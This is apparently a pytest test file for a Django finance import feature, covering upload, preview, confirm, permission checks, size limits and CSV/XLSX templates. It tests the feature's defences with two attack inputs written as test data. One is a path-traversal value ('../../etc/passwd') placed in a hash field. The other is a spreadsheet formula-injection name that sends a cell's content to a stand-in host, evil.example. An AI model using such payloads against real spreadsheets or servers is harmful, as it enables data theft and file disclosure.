"""The import pages: upload, preview (nothing written), confirm (all or nothing), templates."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from sinergi.finance import import_views, importer
from sinergi.finance.models import Transaction
from sinergi.ledger.models import Entry
from tests.conftest import client_for
from tests.factories import MembershipFactory
from tests.finance.import_helpers import csv_bytes, expenditure_row, incoming_row, xlsx_bytes

pytestmark = pytest.mark.django_db


def url(funded, name: str = "finance-import") -> str:
    return reverse(name, args=[funded.partnership.slug])


def upload(client, funded, data: bytes, name: str = "books.csv"):
    return client.post(url(funded), {"file": SimpleUploadedFile(name, data)})


def confirm_fields(response) -> dict[str, str]:
    result = response.context["result"]
    return {"sha256": result.sha256, "format": result.format, "filename": result.filename}


def test_given_a_partner_admin_when_opening_the_page_then_form_columns_and_templates(funded):
    response = client_for(funded.ngo_admin).get(url(funded))

    assert response.status_code == 200
    page = response.content.decode()
    assert 'enctype="multipart/form-data"' in page and 'name="file"' in page
    assert url(funded, "finance-import-template-xlsx") in page
    assert "<code>value_date</code>" in page


@pytest.mark.parametrize(
    ("who", "status"),
    [("observer", 403), ("outsider", 404), ("anonymous", 404), ("member", 403)],
)
def test_given_someone_who_may_not_import_when_opening_the_pages_then_refused(funded, who, status):
    if who == "member":
        person = MembershipFactory(partnership=funded.partnership, role="member").person
    else:
        person = getattr(funded, who, None)
    client = client_for(person)
    data = csv_bytes([incoming_row(funded)])

    assert client.get(url(funded)).status_code == status
    assert upload(client, funded, data).status_code == status
    assert client.get(url(funded, "finance-import-template-csv")).status_code == status
    assert client.post(url(funded, "finance-import-confirm"), {}).status_code == status
    assert not Transaction.objects.exists()


def test_given_a_public_partnership_when_an_outsider_opens_the_import_then_403(public_funded):
    response = client_for(public_funded.outsider).get(url(public_funded))
    assert response.status_code == 403


def test_given_a_good_file_when_uploaded_then_preview_with_totals_and_nothing_written(funded):
    entries = Entry.objects.count()
    client = client_for(funded.ngo_admin)

    response = upload(client, funded, csv_bytes([incoming_row(funded), expenditure_row(funded)]))

    assert response.status_code == 200
    page = response.content.decode()
    assert 'data-currency="USD"' in page and 'data-type="4"' in page
    assert "Import 2 transactions" in page
    assert response.context["result"].sha256 in page
    assert not Transaction.objects.exists() and Entry.objects.count() == entries


def test_given_a_previewed_file_when_confirmed_then_imported_once(funded):
    client = client_for(funded.ngo_admin)
    data = csv_bytes([incoming_row(funded), expenditure_row(funded)])
    fields = confirm_fields(upload(client, funded, data))

    response = client.post(url(funded, "finance-import-confirm"), fields)

    assert response.status_code == 302
    assert response["Location"] == url(funded, "finance-transactions")
    assert Transaction.objects.count() == 2
    # the same confirm again: the kept file is gone, nothing more is written
    again = client.post(url(funded, "finance-import-confirm"), fields, follow=True)
    assert "upload it again" in again.content.decode()
    # the same file uploaded again: refused as already imported
    response = upload(client, funded, data)
    assert response.status_code == 409
    assert "already imported" in response.content.decode()
    assert Transaction.objects.count() == 2


def test_a_kept_file_left_half_written_is_replaced_by_the_next_preview(funded):
    """Given a previewed file whose kept copy was cut short (a full disk, a stopped
    server), when the same file is previewed again, then the copy is written anew and
    confirming imports it (before, the broken copy stayed, and confirming said "upload it
    again" until the day-old prune)."""
    from django.core.files.storage import default_storage

    client = client_for(funded.ngo_admin)
    data = csv_bytes([incoming_row(funded), expenditure_row(funded)])
    fields = confirm_fields(upload(client, funded, data))
    kept = importer._stash_name(funded.ngo_admin, fields["sha256"], fields["format"])
    with default_storage.open(kept, "wb") as handle:
        handle.write(data[: len(data) // 2])

    upload(client, funded, data)
    response = client.post(url(funded, "finance-import-confirm"), fields)

    assert response.status_code == 302
    assert Transaction.objects.count() == 2


def test_given_an_xlsx_when_previewed_and_confirmed_then_imported(funded):
    client = client_for(funded.coordinator)
    data = xlsx_bytes([list(expenditure_row(funded).values())])
    preview = upload(client, funded, data, name="books.xlsx")
    assert preview.context["result"].ok

    client.post(url(funded, "finance-import-confirm"), confirm_fields(preview))

    assert Transaction.objects.get().recorded_by == funded.coordinator


def test_given_a_bad_row_when_uploaded_then_errors_listed_and_no_confirm(funded):
    rows = [incoming_row(funded), incoming_row(funded, amount="12,5"), incoming_row(funded)]

    response = upload(client_for(funded.ngo_admin), funded, csv_bytes(rows))

    page = response.content.decode()
    assert 'data-row="3" data-column="amount"' in page
    assert "Nothing was recorded." in page
    assert "finance-import-confirm" not in page and 'name="sha256"' not in page
    assert not Transaction.objects.exists()
    # The summary saying how many errors takes the focus, so a screen reader reads it.
    assert '<p data-testid="import-summary" tabindex="-1" autofocus>' in page


@pytest.mark.parametrize(
    ("data", "name", "words"),
    [
        (b"date,sum\r\n2026-01-01,5\r\n", "books.csv", "missing: type"),
        (b"not a workbook at all", "books.xlsx", "not an Excel workbook"),
        (b"", "books.csv", "empty"),
    ],
)
def test_given_an_unreadable_file_when_uploaded_then_the_form_says_why(funded, data, name, words):
    response = upload(client_for(funded.ngo_admin), funded, data, name)

    assert response.status_code == 422
    assert words in response.content.decode()


def test_given_a_request_over_the_size_limit_when_uploaded_then_413_before_reading(funded):
    client = client_for(funded.ngo_admin)
    response = client.post(
        url(funded),
        {"file": SimpleUploadedFile("big.csv", b"type\r\n")},
        CONTENT_LENGTH=str(
            importer.MAX_BYTES + import_views.REQUEST_SLACK + 1
        ),  # under the site-wide cap
    )
    assert response.status_code == 413
    assert "50 MB" in response.content.decode()


def test_given_someone_elses_or_a_made_up_hash_when_confirming_then_nothing_written(funded):
    admin = client_for(funded.ngo_admin)
    fields = confirm_fields(upload(admin, funded, csv_bytes([incoming_row(funded)])))

    for person, data in (
        (funded.coordinator, fields),  # another person's preview is not theirs to confirm
        (funded.ngo_admin, {**fields, "sha256": "0" * 64}),
        (funded.ngo_admin, {**fields, "sha256": "../../etc/passwd"}),
        (funded.ngo_admin, {**fields, "format": "exe"}),
    ):
        response = client_for(person).post(url(funded, "finance-import-confirm"), data)
        assert response.status_code == 302
        assert response["Location"] == url(funded)
    assert not Transaction.objects.exists()


def test_given_rows_that_became_wrong_after_the_preview_when_confirmed_then_nothing_written(
    funded,
):
    client = client_for(funded.ngo_admin)
    data = csv_bytes([incoming_row(funded)])
    fields = confirm_fields(upload(client, funded, data))
    # the NGO admin loses the right to record for the NGO between preview and confirm
    funded.ngo_admin.organisation = funded.company
    funded.ngo_admin.save()

    response = client.post(url(funded, "finance-import-confirm"), fields)

    assert response.status_code == 422
    assert 'data-row="2" data-column="receiver"' in response.content.decode()
    assert not Transaction.objects.exists()


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_given_the_downloaded_template_when_uploaded_then_its_example_row_checks_out(funded, kind):
    client = client_for(funded.ngo_admin)
    response = client.get(url(funded, f"finance-import-template-{kind}"))
    assert response.status_code == 200
    assert f".{kind}" in response["Content-Disposition"]
    body = b"".join(response) if response.streaming else response.content

    result = importer.import_transactions(
        funded.ngo_admin, funded.partnership, io.BytesIO(body), f"template.{kind}", False
    )

    assert result.errors == [] and result.rows == 1
    assert list(result.by_type) == ["4"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_given_an_organisation_named_like_a_formula_then_the_template_keeps_it_text(funded, kind):
    """Given the downloader's organisation named "=HYPERLINK(…)" (names come from users),
    then the template's provider cell is text a spreadsheet will not run — the CSV cell
    starts with an apostrophe, the XLSX cell is a string, not a formula — and the template
    uploaded back still names that organisation as the provider."""
    from openpyxl import load_workbook

    organisation = funded.ngo_admin.organisation
    organisation.name = '=HYPERLINK("http://evil.example/?x="&A1,"ok")'
    organisation.iati_identifier = ""
    organisation.save()
    response = client_for(funded.ngo_admin).get(url(funded, f"finance-import-template-{kind}"))
    body = b"".join(response) if response.streaming else response.content

    if kind == "csv":
        row = body.decode("utf-8-sig").splitlines()[1]
        assert ",\"'=HYPERLINK(" in row, row
    else:
        sheet = load_workbook(io.BytesIO(body)).worksheets[0]
        cells = {
            sheet.cell(row=1, column=c).value: sheet.cell(row=2, column=c) for c in range(1, 13)
        }
        assert cells["provider"].data_type == "s"
        assert cells["provider"].value == "'" + organisation.name
    result = importer.import_transactions(
        funded.ngo_admin, funded.partnership, io.BytesIO(body), f"template.{kind}", False
    )
    assert result.errors == [] and result.rows == 1


def test_given_the_indonesian_template_then_its_sheet_is_named_in_indonesian_and_imports(funded):
    """Given the XLSX template downloaded from the Indonesian page, then its sheet is called
    "Transaksi" (not the English "Transactions"), and its example row imports whichever
    language the uploader reads in."""
    from django.utils import translation
    from openpyxl import load_workbook

    with translation.override("id"):
        path = url(funded, "finance-import-template-xlsx")
    response = client_for(funded.ngo_admin).get(path)
    body = b"".join(response) if response.streaming else response.content

    assert path.startswith("/id/")
    assert load_workbook(io.BytesIO(body)).sheetnames[0] == "Transaksi"
    for language in ("id", "en"):
        with translation.override(language):
            result = importer.import_transactions(
                funded.ngo_admin, funded.partnership, io.BytesIO(body), "template.xlsx", False
            )
        assert result.errors == [] and result.rows == 1, language
